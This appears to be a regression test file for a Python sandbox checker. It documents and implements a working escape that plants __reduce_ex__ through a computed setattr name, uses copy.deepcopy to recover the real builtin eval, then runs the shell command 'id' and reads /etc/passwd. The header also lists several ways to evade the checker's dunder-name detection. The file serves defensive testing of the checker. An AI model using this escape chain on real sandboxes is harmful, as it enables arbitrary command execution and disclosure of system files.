# expect: reject builtin
# why: a run-time-named setattr on self whose name is built by str methods the source
#   never spells with '__' (copy.deepcopy then runs the planted __reduce_ex__)
# line: 36
# goal: the REAL builtin `eval` as a value (typing's __builtins__ dict indexed), then runs `id`
#   and reads /etc/passwd through it (no `open` or `eval` written by the program).
# mechanism: (1) a run-time-named setattr on self of a closed class (allowed, WK_USE_NAME_SET)
#   plants "__reduce_ex__" in the instance dict, + (3) the copy/reduce protocol: copy.deepcopy
#   looks __reduce_ex__ up on the INSTANCE (getattr(x, "__reduce_ex__")), calls red(4), builds
#   typing.Literal["eval"] and writes _name = "__builtins__" into it from the state dict; the
#   second deepcopy runs _GenericAlias.__reduce__, which does typing's globals()[self._name]
#   and operator.getitem(<builtins dict>, "eval").
#   (This is the chain of tests/rules/escape_enum_functional_pairs_reduce.py, with the enum
#   functional API replaced by setattr(self, <computed name>, red).)
# rule slipped: builtin (names.c, computed getattr/setattr names, ~l.3330): a computed name
#   that does not start with a literal letter is refused only if written_dunder_text() finds
#   text starting with "__" written as a value. That search is syntactic: a literal "__x",
#   a "+" chain whose leading text is "__", `"_" * n`, and sep.join([...literal "_..."]).
#   "--reduce-ex--".replace("-", "_") builds "__reduce_ex__" (and "__builtins__") with no such
#   text anywhere; so do "x__reduce_ex__"[1:], "_%sreduce_ex__" % "_", "{}{}reduce_ex__"
#   .format("_", "_"), chr(95) + chr(95) + "...", bytes([95, 95]).decode() + "...",
#   min(["_"]) + "_..." (all tried with getattr(self, k): accepted). The payload strings avoid
#   a leading "__" (exec('import os; ...'), open(...) inside eval's text).
# verify: safe-exec-check rc=0; python3 prints <built-in function eval>, the uid line of `id`,
#   and the first line of /etc/passwd.
import copy
import typing


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class C:
    def plant(self, k, v):
        setattr(self, k, v)


c = C()
c.plant("--reduce-ex--".replace("-", "_"), red)
ev = copy.deepcopy(copy.deepcopy(c))
print(ev)
ev("exec('import os; os.system(\"id\")')")
print(ev("open('/etc/passwd').read()").splitlines()[0])
